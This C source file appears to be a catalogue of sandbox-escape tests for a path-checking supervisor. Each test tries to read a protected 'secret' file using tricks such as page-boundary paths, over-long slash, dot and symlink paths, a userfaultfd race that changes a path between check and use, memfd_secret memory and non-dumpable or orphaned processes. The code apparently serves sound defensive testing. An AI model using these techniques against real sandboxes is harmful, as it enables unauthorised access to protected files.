// SPDX-License-Identifier: Apache-2.0
/*
 * B: memory, threads and numbers of the one who asks, as somebody who answers
 * for the kernel may see them otherwise than the kernel does.
 */
#include "catalogue.h"
#include "opens.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/openat2.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096

static char *pages(size_t n)
{
	char *memory = mmap(NULL, n * PAGE, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (memory == MAP_FAILED)
		cannot_show("no memory");
	return memory;
}

static void loot_path(const char *path)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);

	if (fd < 0)
		note("%s", strerrorname_np(errno));
	loot_fd(fd);
}

/* The last byte of the text is the last of the page. */
static char *at_end_of_page(const char *text)
{
	size_t n = strlen(text) + 1;
	char *memory = pages(3) + 2 * PAGE - n;

	memcpy(memory, text, n);
	return memory;
}

static void page_end(void)
{
	char *path = at_end_of_page(in_secret("file"));

	(void)munmap(path + strlen(path) + 1, PAGE);
	loot_path(path);
}

static void page_end_closed(void)
{
	char *path = at_end_of_page(in_secret("file"));

	(void)mprotect(path + strlen(path) + 1, PAGE, PROT_NONE);
	loot_path(path);
}

/* In two pages, the second of another kind. */
static void two_pages(void)
{
	const char *text = in_secret("file");
	char *path = pages(2) + PAGE - strlen(text) / 2;

	strcpy(path, text);
	(void)mprotect(path - (uintptr_t)path % PAGE, PAGE, PROT_READ);
	loot_path(path);
}

/*
 * As long as a path may be; whoever cuts it anywhere has what may be read. No
 * link, or one after the other.
 */
static void long_path(void)
{
	const char *end = path_of("%s", in_secret("file"));
	char path[PATH_MAX];
	size_t n = (size_t)snprintf(path, sizeof(path), "%s", world("read"));
	size_t ups = 0;
	size_t tail;

	for (const char *at = path; *at; at++)
		ups += *at == '/';
	tail = 3 * ups + strlen(end);
	memset(path + n, '/', sizeof(path) - n);
	n = sizeof(path) - 1 - tail;
	for (size_t i = 0; i < ups; i++)
		memcpy(path + n + 3 * i, "/..", 3);
	memcpy(path + sizeof(path) - 1 - strlen(end), end, strlen(end) + 1);
	note("%zu bytes", strlen(path));
	loot_path(path);
}

static void long_path_of_dots(void)
{
	const char *name = strrchr(path_of("%s", world("secret")), '/') + 1;
	const char *end = path_of("/../%s/file", name);
	char path[PATH_MAX];
	size_t n = (size_t)snprintf(path, sizeof(path), "%s", world("read"));

	while (n + 2 + strlen(end) < sizeof(path)) {
		memcpy(path + n, "/.", 2);
		n += 2;
	}
	strcpy(path + n, end);
	loot_path(path);
}

/* Each of its links is as long as may be. */
static void long_links(void)
{
	char target[PATH_MAX];
	const char *next = path_of("%s", in_secret("file"));

	for (int i = 0; i < 39; i++) {
		size_t n = strlen(next);

		memset(target, '/', sizeof(target));
		memcpy(target + sizeof(target) - 1 - n, next, n + 1);
		next = path_of("%s/link-%d", world("write"), i);
		if (symlink(target, next) < 0)
			note("symlink: %s", strerrorname_np(errno));
	}
	loot_path(next);
}

/*
 * A page that is filled when somebody reads it, each time with the other path:
 * who reads it twice sees two.
 */
static int faults;
static char *page;
static char contents[2][PAGE];

static void *fill(void *data)
{
	struct pollfd wait = { faults, POLLIN, 0 };
	struct uffd_msg message;
	int i = 0;

	(void)data;
	while (poll(&wait, 1, 5000) == 1) {
		struct uffdio_copy copy = { .dst = (uintptr_t)page,
					    .src = (uintptr_t)contents[i],
					    .len = PAGE };

		if (read(faults, &message, sizeof(message)) < 0)
			continue;
		i = !i;
		if (ioctl(faults, UFFDIO_COPY, &copy) < 0)
			note("copy: %s", strerrorname_np(errno));
	}
	return NULL;
}

static int new_userfaultfd(void)
{
	int device, fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);

	if (fd >= 0)
		return fd;
	device = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
	return device < 0 ? -1 : ioctl(device, USERFAULTFD_IOC_NEW, O_CLOEXEC);
}

static void filled_twice(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register range = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	pthread_t thread;

	faults = new_userfaultfd();
	if (faults < 0 || ioctl(faults, UFFDIO_API, &api) < 0)
		cannot_show("no userfaultfd for what the kernel reads");
	page = pages(1);
	strcpy(contents[0], in_read("file"));
	strcpy(contents[1], in_secret("file"));
	range.range.start = (uintptr_t)page;
	range.range.len = PAGE;
	if (ioctl(faults, UFFDIO_REGISTER, &range) < 0)
		return;
	(void)pthread_create(&thread, NULL, fill, NULL);
	for (int i = 0; i < 4; i++) {
		loot_path(page);
		(void)madvise(page, PAGE, MADV_DONTNEED);
		/* Where it was read an even number of times. */
		if (i == 1)
			loot_path(page);
	}
}

/* Memory that only its owner's calls can read. */
static void secret_memory(void)
{
	int fd = (int)syscall(SYS_memfd_secret, 0);
	char *path;

	if (fd < 0 || ftruncate(fd, PAGE) < 0)
		cannot_show("this kernel has no memfd_secret");
	path = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (path == MAP_FAILED)
		return;
	strcpy(path, in_secret("file"));
	loot_path(path);
}

static void not_dumpable(void)
{
	note("prctl: %d", prctl(PR_SET_DUMPABLE, 0, 0, 0, 0));
	(void)loot_by_any(path_of("%s", in_secret("file")));
}

static void not_dumpable_high(void)
{
	note("prctl: %ld",
	     syscall(SYS_prctl, 0x1234567800000000ULL | PR_SET_DUMPABLE, 0L, 0L,
		     0L, 0L));
	(void)loot_by_any(path_of("%s", in_secret("file")));
}

static void not_dumpable_child(void)
{
	pid_t child = fork();

	if (child == 0) {
		not_dumpable();
		_exit(0);
	}
	if (child > 0)
		(void)waitpid(child, NULL, 0);
}

/* Who runs what he cannot read cannot be looked at. */
static void not_readable(void)
{
	const char *program = path_of("%s", in_write("cat"));
	const char *argv[] = { "cat", in_secret("file"), NULL };
	int from = open("/bin/cat", O_RDONLY);
	int to = open(program, O_WRONLY | O_CREAT, 0700);
	char bytes[PAGE];
	ssize_t n;

	while ((n = read(from, bytes, sizeof(bytes))) > 0)
		if (write(to, bytes, (size_t)n) != n)
			break;
	(void)close(to);
	(void)chmod(program, 0111);
	(void)execv(program, (char **)(uintptr_t)argv);
	note("exec: %s", strerrorname_np(errno));
}

/* Nobody's child any more, in a session of its own. */
static void orphan(void)
{
	int pipes[2];
	char byte;

	if (pipe(pipes) < 0)
		return;
	if (fork() == 0) {
		(void)setsid();
		if (fork() != 0)
			_exit(0);
		(void)usleep(100000);
		(void)loot_by_any(path_of("%s", in_secret("file")));
		_exit(0);
	}
	(void)close(pipes[1]);
	/* Until the last of them has ended. */
	(void)!read(pipes[0], &byte, 1);
	while (wait(NULL) > 0)
		;
}

const struct attack memory_attacks[] = {
	{ "T028", "a path that ends with its page", "files", NULL, 0,
	  page_end },
	{ "T028b", "the next page may not be read", "files", NULL, 0,
	  page_end_closed },
	{ "T028c", "a path in two pages", "files", NULL, 0, two_pages },
	{ "T029", "a path as long as can be, by slashes", "files", NULL, 0,
	  long_path },
	{ "T029b", "a path as long as can be, by dots", "files", NULL, 0,
	  long_path_of_dots },
	{ "T029c", "39 links as long as can be", "files", NULL, 0, long_links },
	{ "T031", "a page with another path each time it is read", "files",
	  "worker", ONLY_ROOT, filled_twice },
	{ "T032", "a path in memory of memfd_secret", "files", NULL, 0,
	  secret_memory },
	{ "T033", "not dumpable", "files", NULL, 0, not_dumpable },
	{ "T033b", "a child that is not dumpable", "files", "child", 0,
	  not_dumpable_child },
	{ "T033c", "not dumpable, high bits in the option", "files", NULL, 0,
	  not_dumpable_high },
	{ "T034", "a program that may be executed but not read", "files",
	  "child", 0, not_readable },
	{ "T035", "an orphan in a session of its own", "files", "child", 0,
	  orphan },
	{ 0 },
};
